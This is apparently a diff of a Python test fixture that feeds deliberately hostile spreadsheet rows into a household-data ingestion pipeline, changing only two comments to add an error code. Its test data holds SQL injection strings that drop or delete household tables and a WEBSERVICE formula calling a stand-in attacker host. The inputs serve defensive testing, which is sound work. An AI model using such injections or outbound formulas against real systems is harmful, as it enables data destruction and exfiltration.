@@ -84,7 +84,7 @@ def hostile_run(tmp_path_factory, prefect_harness):
         person(6, head_name="Robert'); DROP TABLE private.households;--"),  # loads
         person(7, village="x'; DELETE FROM core.households WHERE true; --"),  # loads
         person(8, household_id=None),  # HH001
-        person(9, household_size="=1/0"),  # a formula, no cached value: HH008
+        person(9, household_size="=1/0"),  # a formula, no cached value: HH008, HH042
     ]
     write_workbook(folder / "muong-nhe.xlsx", inputs["muong-nhe.xlsx"], labels=NOTE)
     inputs["dien-bien-phu.xlsx"] = [
@@ -98,7 +98,7 @@ def hostile_run(tmp_path_factory, prefect_harness):
         inputs["dien-bien-phu.xlsx"],
         formulas={
             (1, "household_size"): ("=2+3", 5),
-            (2, "household_size"): ("=2+3", None),  # no cached value: HH008
+            (2, "household_size"): ("=2+3", None),  # no cached value: HH008, HH042
             (3, "village"): ('=WEBSERVICE("http://attacker.example/")', "Bản Mới"),
         },
     )
